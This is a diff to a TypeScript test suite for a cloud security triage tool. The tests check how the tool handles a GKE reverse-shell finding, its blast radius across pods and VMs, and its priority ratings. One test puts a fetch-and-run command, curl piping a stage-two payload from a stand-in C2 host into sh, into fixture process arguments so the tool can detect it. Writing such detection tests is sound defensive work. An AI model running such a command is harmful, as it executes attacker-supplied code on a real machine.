@@ -10,6 +10,7 @@ import { join } from 'node:path';
 import { parseConfig } from '../../src/config';
 import { triage } from '../../src/engine';
 import { CloudLoggingSource } from '../../src/logs/cloud-logging';
+import { renderText } from '../../src/summary/render-text';
 import type { Summary } from '../../src/summary/schema';
 import { fixturesDir, loadSample, logsDir } from '../support/fixtures';
 import { type LoggingServer, startLoggingServer } from '../support/logging-server';
@@ -83,6 +84,30 @@ describe('identity_activity through the real Logging client', () => {
     ]);
     expect(summary.assessment.priority).toBe('P1');
     expect(summary.assessment.reasons[1]).toMatch(/made 2 call\(s\) from 203\.0\.113\.45, the reverse-shell destination: its token is in the attacker's hands/);
+    // Who else talked to the destination: another pod (its flow and its denied connection) and a VM; the finding's own pod last.
+    expect(summary.logs.find((s) => s.name === 'indicator_sweep')).toMatchObject({ status: 'ok', matched: 4 });
+    expect(summary.blastRadius?.peers.map((p) => [p.kind, p.name, p.sources, p.self])).toEqual([
+      ['pod', 'ledger/ledger-worker-5f7c9d8b6-zx4kp', ['vpc_flows', 'firewall'], false],
+      ['vm', 'batch-runner-1', ['vpc_flows'], false],
+      ['pod', 'payments/checkout-api-6d8f9c7b5-q2w8x', ['vpc_flows'], true],
+    ]);
+  });
+
+  it('a host name from the command line is swept in the DNS query logs; no other workload is said as plainly', async () => {
+    const sample = loadSample('gke-reverse-shell.json');
+    sample.finding.processes[0].args = ['sh', '-c', 'curl -s http://c2.badcdn.example/stage2 | sh'];
+    const { summary } = await triageOn(
+      corpus((id) => id.startsWith('dns-') || id.startsWith('id-pod')),
+      sample,
+    );
+    expect(summary.blastRadius?.indicators).toEqual({ ips: ['203.0.113.45'], hosts: ['c2.badcdn.example'] });
+    expect(summary.blastRadius?.peers.map((p) => [p.name, p.sources, p.self])).toEqual([['10.44.2.17', ['dns_queries'], false]]);
+    const quiet = await triageOn(
+      corpus((id) => id.startsWith('id-pod')),
+      loadSample('gke-reverse-shell.json'),
+    );
+    expect(quiet.summary.blastRadius?.peers).toEqual([]);
+    expect(renderText(quiet.summary)).toContain('no other workload talked to 203.0.113.45 in the window');
   });
 
   it('the same finding at LOW with no foreign call is not raised by the identity', async () => {
@@ -96,13 +121,13 @@ describe('identity_activity through the real Logging client', () => {
     expect(summary.assessment.reasons.join('\n')).not.toMatch(/token/);
   });
 
-  it('at LOW, calls from public addresses that are not the destination still make it P1', async () => {
+  it('at LOW, calls from public addresses that are not the destination raise it to P2, saying what else they may be', async () => {
     const { summary } = await triageOn(
       corpus(() => true),
       quietSample('10.44.9.9'),
     );
-    expect(summary.assessment.priority).toBe('P1');
-    expect(summary.assessment.reasons.join('\n')).toMatch(/from 203\.0\.113\.45, a public address that is neither the workload's network nor Google's/);
+    expect(summary.assessment.priority).toBe('P2');
+    expect(summary.assessment.reasons.join('\n')).toMatch(/from 203\.0\.113\.45, a public address: a stolen token, unless it is a node's external address, Cloud NAT/);
   });
 
   it('without the pod create entry the identity is unknown, and the section is skipped with the reason', async () => {
